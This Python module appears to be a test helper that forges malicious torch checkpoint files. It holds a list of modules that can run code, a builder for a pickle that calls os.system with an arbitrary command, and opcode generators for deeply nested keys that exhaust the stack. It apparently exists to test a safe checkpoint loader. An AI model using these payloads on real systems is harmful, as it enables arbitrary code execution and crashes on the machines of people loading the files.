"""Pickles that name code, to attack the readers of checkpoints."""

from __future__ import annotations

import importlib
import io
import pickle
import types
import zipfile
from collections.abc import Iterator

import torch

DEEP = 1_000_000  # Hashing tuples that are nested as deep exhausts the stack of a process.
# Modules whose attributes, or the attributes of whose attributes, can run code.
DANGEROUS_MODULES = (
    "builtins",
    "hookline.checkpoint.files",
    "importlib",
    "numpy",
    "os",
    "posix",
    "pickle",
    "shutil",
    "subprocess",
    "torch.distributed.checkpoint.filesystem",
    "torch.hub",
    "torch.serialization",
)


def reachable_names() -> Iterator[tuple[str, str]]:
    """Yield the (module, name) pairs that `find_class` of a pickle could resolve, dotted too."""
    for module_name in DANGEROUS_MODULES:
        module = importlib.import_module(module_name)
        for name, value in list(vars(module).items()):
            yield module_name, name
            if isinstance(value, types.ModuleType) and not module_name.startswith("numpy"):
                for inner in list(vars(value)):
                    yield module_name, f"{name}.{inner}"


def naming_file(module: str, name: str) -> bytes:
    """Return a file in torch's old format with `{"k": <the object of that name>}`."""
    return old_format(b"}X\x01\x00\x00\x00kc" + f"{module}\n{name}\n".encode() + b"s")


def old_format(opcodes: bytes) -> bytes:
    """Return a file in torch's old format whose content is pickled with these opcodes."""
    header = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}]
    content = b"\x80\x02" + opcodes + b"."
    return b"".join(pickle.dumps(part, 2) for part in header) + content + pickle.dumps([], 2)


def dotted_call(module: str, command: str) -> bytes:
    """Return a pickle that calls `os.system` through a module that imports `os`.

    Protocol 4 resolves dotted names attribute by attribute.
    """
    function = short_text(module) + short_text("os.system") + b"\x93"
    return b"\x80\x04" + function + short_text(command) + b"\x85R."


def short_text(text: str) -> bytes:
    """Return the opcode that pushes a text of less than 256 bytes."""
    return b"\x8c" + bytes([len(text)]) + text.encode()


def deep_key(depth: int) -> bytes:
    """Return the opcodes of `{((((),),),): 1}`, with a key of that depth."""
    return b"})" + b"\x85" * depth + b"K\x01s"


def deep_key_through_pairs(depth: int) -> bytes:
    """Return the same with tuples of two that are made from a mark."""
    return b"}" + b"(" * depth + b")" + b"K\x02t" * depth + b"K\x01s"


def deep_key_through_memo(depth: int) -> bytes:
    """Return the same with tuples of two, of which the second item comes from the memo."""
    return b"})q\x00" + b"h\x00\x86" * depth + b"K\x01s"


def doubling_key(levels: int) -> bytes:
    """Return the opcodes of a dict whose key is a tuple of two equal tuples at each level."""
    return b"})" + b"q\x00h\x00\x86" * levels + b"K\x01s"


def zip_format(opcodes: bytes) -> bytes:
    """Return a file of torch.save whose content is pickled with these opcodes."""
    source = io.BytesIO()
    torch.save({"w": torch.ones(3)}, source)
    target = io.BytesIO()
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(target, "w") as forged:
        for name in archive.namelist():
            content = archive.read(name)
            if name.endswith("data.pkl"):
                content = b"\x80\x02" + opcodes + b"."
            forged.writestr(name, content)
    return target.getvalue()
